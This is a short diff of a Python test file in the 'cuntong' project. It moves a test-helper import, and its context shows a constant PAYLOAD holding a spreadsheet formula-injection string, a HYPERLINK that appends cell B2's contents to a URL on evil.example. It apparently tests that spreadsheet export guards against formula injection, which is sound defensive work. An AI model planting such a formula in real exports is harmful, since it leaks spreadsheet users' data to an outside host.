@@ -6,8 +6,8 @@ from decimal import Decimal
 from openpyxl import load_workbook
 
 from cuntong.core.export import workbook_bytes
-from cuntong.core.testing import HONGYANG, area, login, make_user
 from cuntong.geo.models import Area
+from cuntong.web.testing import HONGYANG, area, login, make_user
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
 
